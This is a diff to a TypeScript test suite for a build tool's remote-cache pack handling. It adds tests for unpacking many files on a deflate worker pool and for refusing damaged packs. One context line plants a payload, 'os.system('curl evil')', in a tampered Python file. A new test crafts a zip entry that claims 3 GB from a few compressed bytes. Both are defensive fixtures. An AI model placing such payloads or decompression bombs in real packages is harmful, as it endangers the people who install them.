@@ -11,7 +11,7 @@ import * as zlib from "zlib";
 import { remoteCacheConfig, transferAllowanceMs } from "../../builder/remote/config";
 import { BadEntryError, isPlainRelativePath, packInstall, PlannedEntry, unpackInstall, verifyArchive } from "../../builder/remote/entries";
 import { PACK_FILE, packReuse, writePackIndex } from "../../builder/remote/pack-reuse";
-import { DEFLATE_ENGINE } from "../../builder/deflate-pool";
+import { DEFLATE_ENGINE, DeflatePool } from "../../builder/deflate-pool";
 import { writeZip } from "../../builder/zip-writer";
 import { UserError } from "../../shared/errors";
 import { craftZip } from "../zip-crafter";
@@ -71,7 +71,7 @@ describe("remote cache entries", () => {
     });
 
     /** An install folder as the builder leaves one: manifest.json and site-packages/. */
-    function install(files: Record<string, { data: string; executable?: boolean }>): { dir: string; manifest: { rel: string; size: number; sha256: string; executable: boolean }[] } {
+    function install(files: Record<string, { data: string | Buffer; executable?: boolean }>): { dir: string; manifest: { rel: string; size: number; sha256: string; executable: boolean }[] } {
         const root = path.join(dir, "install");
         const manifest = Object.entries(files).map(([rel, f]) => {
             const p = path.join(root, "site-packages", rel);
@@ -163,6 +163,74 @@ describe("remote cache entries", () => {
 
     it("refuses a pack whose file is not the one its manifest describes", async () => {
         await refused(craftedPack([{ rel: "six.py", data: "import os; os.system('curl evil')\n", listed: { sha256: sha("x = 1\n") } }]), /site-packages\/six\.py is not the file its manifest describes/);
+    });
+
+    /** An install of many files, packed: more than the pool runs on the calling thread, so its workers unpack it. */
+    async function manyFilesPack(): Promise<{ pack: string; files: Record<string, { data: string | Buffer; executable?: boolean }> }> {
+        const files: Record<string, { data: string | Buffer; executable?: boolean }> = {};
+        for (let i = 0; i < 300; i++) files[`pkg_${i % 7}/mod_${i}.py`] = { data: `# Module ${i}.\n\nVALUE = ${i}\n`.repeat(1 + (i % 40)) };
+        // Incompressible (stored in the pack), big (a job of its own), executable, empty.
+        files["pkg_0/blob.bin"] = { data: crypto.randomBytes(200_000) };
+        files["pkg_1/_native.so"] = { data: "x".repeat(5_000_000) + crypto.randomBytes(1000).toString("hex") };
+        files["bin/tool"] = { data: "#!/usr/bin/python3\n", executable: true };
+        files["pkg_2/py.typed"] = { data: "" };
+        const made = install(files);
+        const pack = path.join(dir, "pack.zip");
+        await packInstall(made.dir, made.manifest, pack, 6);
+        return { pack, files };
+    }
+
+    it("unpacks a pack of many files on the deflate pool's workers, stored and deflated, each as it was", async () => {
+        const { pack, files } = await manyFilesPack();
+        const out = path.join(dir, "out");
+        fs.mkdirSync(out);
+        const packed = await unpackInstall(pack, out);
+        assert.ok(DeflatePool.shared().workers > 0, "the pool's workers unpacked it");
+        assert.equal(packed.length, Object.keys(files).length);
+        assert.ok(packed.some((e) => e.method === 0) && packed.some((e) => e.method === 8), "both stored and deflated entries");
+        for (const [rel, f] of Object.entries(files)) {
+            const p = path.join(out, "site-packages", rel);
+            assert.ok(fs.readFileSync(p).equals(Buffer.from(f.data)), rel);
+            assert.equal(fs.statSync(p).mode & 0o777, (f.executable ? 0o755 : 0o644) & ~process.umask(), rel);
+        }
+        // Each entry the unpack describes points at that file's bytes in the pack.
+        const raw = fs.readFileSync(pack);
+        for (const e of packed) {
+            const bytes = raw.subarray(e.dataOffset, e.dataOffset + e.compressedSize);
+            const data = e.method === 8 ? zlib.inflateRawSync(bytes) : bytes;
+            assert.equal(sha(data), e.sha256, e.name);
+            assert.equal(zlib.crc32(data) >>> 0, e.crc32, e.name);
+        }
+    });
+
+    it("refuses a pack with damaged compressed data on the deflate pool's workers, writing no manifest", async () => {
+        const { pack } = await manyFilesPack();
+        const probe = path.join(dir, "probe");
+        fs.mkdirSync(probe);
+        const entry = (await unpackInstall(pack, probe)).find((e) => e.name === "site-packages/pkg_3/mod_38.py")!;
+        assert.equal(entry.method, 8);
+        // Its deflated bytes overwritten in the middle, its headers left as they were.
+        const bytes = fs.readFileSync(pack);
+        bytes.fill(0xff, entry.dataOffset + 4, entry.dataOffset + 24);
+        fs.writeFileSync(pack, bytes);
+        await refused(pack, /site-packages\/pkg_3\/mod_38\.py: its (compressed data is damaged|data does not match its size and CRC-32)/);
+    });
+
+    it("refuses a pack declaring more bytes than its compressed data can hold, before making room for them", async () => {
+        // A few bytes of DEFLATE that say they inflate to 3 GB (the zip reader's bomb check: no DEFLATE stream gives
+        // more than 1,032 bytes per byte), which the workers would otherwise try to make room for.
+        const compressed = zlib.deflateRawSync(Buffer.from("x = 1\n"));
+        const size = 3 * 1024 ** 3;
+        const manifest = [{ rel: "huge.so", size, sha256: sha("x = 1\n"), executable: false }];
+        const file = path.join(dir, "huge.zip");
+        fs.writeFileSync(
+            file,
+            craftZip([
+                { name: "manifest.json", data: Buffer.from(JSON.stringify({ installer: "uv 0.13.8", files: manifest, record: { notes: [], localProjects: [] } })) },
+                { name: "site-packages/huge.so", raw: { compressed, size, crc32: zlib.crc32("x = 1\n") >>> 0, method: 8 } },
+            ]),
+        );
+        await refused(file, /site-packages\/huge\.so: declares 3221225472 bytes from \d+ compressed bytes, more than deflate can produce/);
     });
 
     it("refuses a truncated pack", async () => {
